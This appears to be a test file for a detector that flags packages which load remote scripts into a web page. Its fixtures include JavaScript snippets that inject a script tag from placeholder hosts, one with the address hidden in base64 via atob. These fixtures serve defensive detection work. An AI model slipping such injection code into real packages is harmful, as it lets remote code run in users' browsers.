import { examine } from '../../../test/examine.ts';
import { loadsRemoteScript } from './loads-remote-script.ts';

examine(loadsRemoteScript, {
  speaks: [
    {
      when: 'it is put into the page at import',
      files: { 'index.js': `const s = document.createElement('script'); s.src = 'https://cdn.invalid/x.js'; document.head.appendChild(s)` },
      weight: 'weak',
      says: ['cdn.invalid'],
    },
    {
      when: 'its address is encoded',
      files: {
        'index.js': `const s = document.createElement('script'); s.src = atob('aHR0cHM6Ly9jZG4uaW52YWxpZC94Lmpz'); document.body.append(s)`,
      },
      weight: 'strong',
    },
    {
      when: 'by an attribute',
      files: {
        'index.js': `const s = document.createElement('script'); s.setAttribute('src', '//192.0.2.7/x.js'); document.body.append(s)`,
      },
      weight: 'strong',
    },
  ],
  silent: [
    {
      when: 'a picture is put into the page',
      files: { 'index.js': `const i = document.createElement('img'); i.src = 'https://cdn.invalid/x.png'` },
    },
    {
      when: 'the caller brings the address',
      files: { 'index.js': `exports.load = url => { const s = document.createElement('script'); s.src = url; document.head.append(s) }` },
    },
  ],
});
